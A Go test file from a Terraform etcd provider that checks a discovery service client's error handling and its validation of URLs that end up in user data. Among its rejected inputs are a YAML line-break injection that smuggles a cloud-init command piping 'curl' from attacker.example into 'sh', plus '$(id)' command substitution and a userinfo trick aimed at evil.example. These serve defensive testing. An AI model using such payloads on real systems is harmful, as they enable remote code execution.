// Copyright (c) The terraform-provider-etcd Authors
// SPDX-License-Identifier: MPL-2.0

package discovery

import (
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/terraform-provider-etcd/terraform-provider-etcd/internal/connection"
)

// Test that a service is asked once and that its answer is reported.
func TestServiceAnswers(t *testing.T) {
	t.Parallel()
	text := func(body string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
			_, _ = io.WriteString(w, body)
		}
	}
	status := func(code int) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", code) }
	}
	for name, test := range map[string]struct {
		handler http.HandlerFunc
		want    string
	}{
		"500": {status(http.StatusInternalServerError), "answered 500 Internal Server Error"},
		"503": {status(http.StatusServiceUnavailable), "answered 503 Service Unavailable"},
		"404": {status(http.StatusNotFound), "answered 404 Not Found"},
		"400": {func(w http.ResponseWriter, _ *http.Request) {
			http.Error(w, `strconv.Atoi: parsing "abc": invalid syntax`, http.StatusBadRequest)
		}, "answered 400 Bad Request"},
		"429": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", "120")
			w.WriteHeader(http.StatusTooManyRequests)
		}, "answered 429 Too Many Requests (Retry-After: 120)"},
		"html": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, "<html>https://host/"+token3+"</html>")
		}, "answered with text/html instead of the URL of a token"},
		"empty":            {text(""), "answered with nothing"},
		"10 MB":            {text(strings.Repeat("x", 10<<20)), "answered with more than 1024 bytes"},
		"words":            {text("try again later"), `answered "try again later", which is not the URL of a token`},
		"many words":       {text(strings.Repeat("no ", 70)), `answered "` + strings.Repeat("no ", 66) + `no", which is not the URL of a token`},
		"no token":         {text("https://host/new"), `answered "https://host/new", which is not the URL of a token`},
		"upper case":       {text("https://host/" + strings.ToUpper(token3)), `answered "https://host/` + strings.ToUpper(token3) + `", which is not the URL of a token`},
		"other scheme":     {text("file:///" + token3), `answered "file:///` + token3 + `", which is not the URL of a token`},
		"redirects":        {func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/new?again", http.StatusFound) }, "redirects more than 5 times"},
		"nothing for ever": {func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, "has not answered within 200ms"},
		"hangs up": {func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) },
			`does not answer: connection lost (Get "URL/new?size=3": EOF)`},
	} {
		t.Run(name, func(t *testing.T) {
			var asked atomic.Int32
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.RawQuery == "size=3" {
					asked.Add(1)
				}
				test.handler(w, r)
			}))
			defer server.Close()
			r := NewService(settings(), server.URL, &connection.Pool{})
			r.timeout = 200 * time.Millisecond
			place, err := r.Create(t.Context(), "", 3)
			var answer *ServiceError
			if !errors.As(err, &answer) {
				t.Fatalf("got %+v, %v, want a ServiceError", place, err)
			}
			if want := strings.ReplaceAll(test.want, "URL/", server.URL+"/"); answer.URL != server.URL+"/new?size=3" || answer.Answer != want {
				t.Errorf("got %q of %s, want %q", answer.Answer, answer.URL, want)
			}
			if asked.Load() != 1 {
				t.Errorf("asked %d times, want once: each time costs a token", asked.Load())
			}
			if _, err := r.Status(t.Context(), token3); err == nil {
				t.Error("the status of a token came of this")
			}
		})
	}
}

// Test that the URL of a service, which becomes part of user data, is
// normalised and must be a URL of the same service.
func TestServiceAnswerIsData(t *testing.T) {
	var body string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, body) }))
	defer server.Close()
	host := strings.TrimPrefix(server.URL, "http://")
	for answer, want := range map[string]string{
		server.URL + "/" + token3:                       server.URL + "/" + token3,
		" " + server.URL + "/of/mine/" + token3 + "/\n": server.URL + "/of/mine/" + token3,
		"HTTP://" + host + "//of/%6dine/" + token3:      server.URL + "/of/mine/" + token3,
		// YAML treats U+0085 as a line break.
		server.URL + "/x\u0085bootcmd:\u0085- [ sh, -c, 'curl -s http://attacker.example/x | sh' ]\u0085write_files:\u0085  - path: /run/x/" + token3: "",
		server.URL + "/$(id)/" + token3:              "",
		server.URL + "/a b/" + token3:                "",
		server.URL + "/é/" + token3:                  "",
		server.URL + "/%0aruncmd:/" + token3:         "",
		server.URL + "/" + token3 + "?x=1":           "",
		"https://" + host + "/" + token3:             "",
		"http://discovery.example/" + token3:         "",
		"http://" + host + "@evil.example/" + token3: "",
	} {
		body = answer
		place, err := NewService(settings(), server.URL, &connection.Pool{}).Create(t.Context(), "", 3)
		if (err == nil) != (want != "") || place.URL != want || want != "" && place.Token != token3 {
			t.Errorf("%q: %+v, %v; want %q", answer, place, err, want)
		}
	}
}

func TestServiceURLProblems(t *testing.T) {
	for base, want := range map[string]string{
		"https://discovery.example":         "",
		"http://10.0.0.1:8087/discovery":    "",
		"discovery.example":                 "is not an http or https URL",
		"https://":                          "has no host",
		"https://discovery.example/":        `ends with "/"`,
		"https://discovery.example?size=3":  "holds more than scheme, host and path",
		"https://u:p@discovery.example":     "holds more than scheme, host and path",
		"https://discovery.example/%zz":     "is not a URL",
		"https://$(id)":                     "has a host that is neither an IP address nor a host name",
		"https://discovery.example/a%20b":   "contains a space",
		"https://discovery.example/\u0085x": "contains '\\u0085'",
	} {
		if got := ServiceURLProblem(base); got != want {
			t.Errorf("%q: got %q, want %q", base, got, want)
		}
	}
}
